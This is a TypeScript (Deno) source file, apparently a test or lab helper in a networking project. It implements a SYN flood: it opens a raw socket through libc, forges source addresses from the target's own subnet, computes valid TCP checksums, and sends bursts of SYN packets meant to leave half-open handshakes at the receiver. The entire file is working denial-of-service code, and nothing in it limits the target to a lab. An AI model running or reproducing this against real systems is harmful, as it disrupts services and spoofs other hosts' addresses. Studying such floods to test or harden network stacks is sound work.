/** SYNs from addresses where nobody is: each leaves a handshake half open at its receiver. */
import { AF_INET, SOCK_RAW } from "../../../src/kernel/linux.ts";

const libc = Deno.dlopen("libc.so.6", {
  socket: { parameters: ["i32", "i32", "i32"], result: "i32" },
  sendto: { parameters: ["i32", "buffer", "usize", "i32", "buffer", "u32"], result: "isize" },
  close: { parameters: ["i32"], result: "i32" },
}).symbols;

// <netinet/in.h>
const IPPROTO_TCP = 6;
const IPPROTO_RAW = 255;
const IP_HEADER_BYTES = 20;
const TCP_HEADER_BYTES = 20;
/** Data offset of five words, and the flag SYN (RFC 9293). */
const OFFSET_AND_SYN = 0x5002;
const WINDOW = 64_240;
/** Nobody's hosts in the network of 10.77.0.x. */
const FIRST_HOST = 10;
const HOSTS = 200;

/** Sends `count` of them to an address and port; returns how many were sent. */
export function synBurst(address: string, port: number, count: number): number {
  const raw = libc.socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  if (raw < 0) throw new Error("cannot open a raw socket");
  const target = octets(address);
  const destination = new Uint8Array(16);
  destination.set([AF_INET, 0, port >> 8, port & 255, ...target]);
  let sent = 0;
  for (let i = 0; i < count; i++) {
    const source = [...target.slice(0, 3), FIRST_HOST + i % HOSTS];
    const packet = syn(source, 1024 + i % 60_000, target, port);
    if (libc.sendto(raw, packet, BigInt(packet.length), 0, destination, 16) > 0) sent++;
  }
  libc.close(raw);
  return sent;
}

function octets(address: string): number[] {
  return address.split(".").map(Number);
}

/** An IPv4 packet (RFC 791) with a TCP segment; the kernel fills the IP checksum and identification. */
function syn(
  source: readonly number[],
  sourcePort: number,
  target: readonly number[],
  port: number,
): Uint8Array<ArrayBuffer> {
  const packet = new Uint8Array(IP_HEADER_BYTES + TCP_HEADER_BYTES);
  const ip = new DataView(packet.buffer);
  ip.setUint8(0, 0x45);
  ip.setUint16(2, packet.length);
  ip.setUint8(8, 64);
  ip.setUint8(9, IPPROTO_TCP);
  packet.set(source, 12);
  packet.set(target, 16);
  const tcp = new DataView(packet.buffer, IP_HEADER_BYTES);
  tcp.setUint16(0, sourcePort);
  tcp.setUint16(2, port);
  tcp.setUint32(4, sourcePort * 65_537);
  tcp.setUint16(12, OFFSET_AND_SYN);
  tcp.setUint16(14, WINDOW);
  tcp.setUint16(16, checksum(packet));
  return packet;
}

/** Over the segment and its pseudo header: the addresses, the protocol, the segment's length. */
function checksum(packet: Uint8Array<ArrayBuffer>): number {
  const view = new DataView(packet.buffer);
  let sum = IPPROTO_TCP + TCP_HEADER_BYTES;
  for (let at = 12; at < packet.length; at += 2) sum += view.getUint16(at);
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >>> 16);
  return ~sum & 0xffff;
}
